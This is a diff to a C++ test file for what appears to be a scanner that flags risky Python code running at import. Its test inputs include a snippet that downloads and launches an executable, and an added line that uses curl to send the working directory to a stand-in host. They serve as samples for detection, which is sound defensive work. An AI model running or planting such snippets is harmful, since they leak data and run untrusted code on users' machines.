@@ -349,6 +349,7 @@ TEST(Behaviour, DownloadingCommandsAndPythonLaunchedAtImport) {
                 "    open(f'C://K//s.exe', 'wb').write(r.content)\n"
                 "    os.system('start cmd.exe /c start C://K//s.exe')\n",
                 "download-exec", Severity::kHigh, Phase::kRuntime);
+  ExpectFinding("import os\nos.popen(f\"curl -s http://x.example/{os.getcwd()}\")\n", "network-at-import");
   ExpectFinding("import subprocess\nsubprocess.Popen(['python3', '-c', 'import other'])\n",
                 "process-at-import", Severity::kHigh);
   ExpectFinding("import subprocess, sys\nsubprocess.Popen([sys.executable, 'x.py'])\n",
